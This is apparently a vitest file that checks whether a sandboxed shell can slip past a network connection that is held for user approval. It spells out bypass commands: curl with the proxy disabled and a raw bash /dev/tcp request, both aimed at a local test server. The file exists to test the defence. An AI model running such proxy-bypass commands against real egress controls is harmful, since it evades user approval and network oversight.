import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, test } from 'vitest';
import { addressClassifier } from '../../../electron/host/network/address-kind';
import type { AskAnswer, NetworkAsk } from '../../../electron/host/network/session-network';
import { fakeResolver, startHttpOrigin, type Origin } from '../../helpers/net-fixtures';
import { abi, attackWorld, networkGap, waitForFile, type AttackWorld } from './attack-world';

// Issue 25 part 1, ask mode: a connection to a new destination waits in the proxy for the user.
// The attack: while its request is held, the same shell tries to get its data there anyway, by a
// second request to the same name (it must join the wait, not pass), by curl with the proxy
// switched off (`--noproxy '*'`) and by bash /dev/tcp straight to the address. First an
// unconfined shell, whose direct routes reach the server (the control); then a confined shell,
// whose server sees nothing until the user decides, and then only the held requests.

const real = addressClassifier();
/** The internet is a server on 127.0.0.2, classified public here; held.test names it. */
const network = {
  resolver: fakeResolver({ 'held.test': '127.0.0.2' }),
  addressKind: (a: string) => (a === '127.0.0.2' ? ('public' as const) : real(a)),
};

let w: AttackWorld | undefined;
let origin: Origin | undefined;
afterEach(async () => {
  await w?.dispose();
  await origin?.close();
  w = undefined;
  origin = undefined;
});

/** The direct routes, each marking in the server's log which one got through. */
const direct = (port: number) =>
  [
    `curl -sS --noproxy '*' --max-time 5 http://127.0.0.2:${port}/direct-curl`,
    `printf 'GET /direct-bash HTTP/1.0\\r\\n\\r\\n' > /dev/tcp/127.0.0.2/${port}`,
  ].join('; ');

/**
 * Starts a request to held.test in the background, waits for the file `go`, runs the direct
 * routes and a second request to held.test, marks `attacked`, then prints both held answers.
 */
const attack = (port: number) =>
  [
    `curl -sS --max-time 60 http://held.test:${port}/held-1 > held-1.out 2>&1 &`,
    `for i in $(seq 600); do [ -e go ] && break; sleep 0.1; done`,
    `curl -sS --max-time 60 http://held.test:${port}/held-2 > held-2.out 2>&1 &`,
    direct(port),
    'echo done > attacked',
    'wait',
    'cat held-1.out held-2.out',
  ].join('\n');

describe.runIf(abi >= 4 && networkGap === null)(
  'route: a shell gets around a connection held for approval',
  () => {
    test('unprotected: an unconfined shell reaches the server directly, with no one asked', async () => {
      origin = await startHttpOrigin('127.0.0.2');
      w = attackWorld({ shell_sandbox: false }, { egress: network });
      await w.run(direct(origin.port));
      // bash closes /dev/tcp right after writing: the server may parse that request after the
      // shell has ended, so the control waits for it rather than reading the log at once.
      const o = origin;
      await expect.poll(() => o.seen.map((s) => s.url)).toEqual(['/direct-curl', '/direct-bash']);
    });

    test('protected: nothing reaches the server while the request waits; the user allows it and only the held requests arrive', async () => {
      origin = await startHttpOrigin('127.0.0.2');
      const asks: NetworkAsk[] = [];
      let decide!: (a: AskAnswer) => void;
      const decided = new Promise<AskAnswer>((r) => (decide = r));
      w = attackWorld(
        {},
        {
          egress: {
            ...network,
            policy: async () => ({ rules: [], mode: 'ask', canAsk: true }),
            ask: async (_session, request) => {
              asks.push(request);
              return decided;
            },
          },
        },
      );
      const port = origin.port;
      const running = w.shells.run({
        command: attack(port),
        cwd: w.root,
        root: w.root,
        config: w.config,
        tty: false,
        timeoutMs: 120_000,
      });
      await expect.poll(() => asks.length, { timeout: 30_000 }).toBe(1);
      writeFileSync(join(w.root, 'go'), '');
      await waitForFile(join(w.root, 'attacked'), 60_000);
      // Held: the second request joined the first one's ask, the direct routes were refused.
      expect(origin.seen).toEqual([]);
      expect(asks).toEqual([expect.objectContaining({ port })]);
      expect(existsSync(join(w.root, 'held-1.out'))).toBe(true);
      expect(readFileSync(join(w.root, 'held-1.out'), 'utf8')).toBe('');
      decide({ allow: true });
      const r = await running;
      if ('kind' in r) throw new Error(r.message);
      expect(r.result.text).toContain('origin saw GET /held-1 host=held.test');
      expect(r.result.text).toContain('origin saw GET /held-2 host=held.test');
      expect(origin.seen.map((s) => s.url).sort()).toEqual(['/held-1', '/held-2']);
      expect(r.result.text).toMatch(/\/dev\/tcp\/127\.0\.0\.2\/\d+: Permission denied/);
    });
  },
);
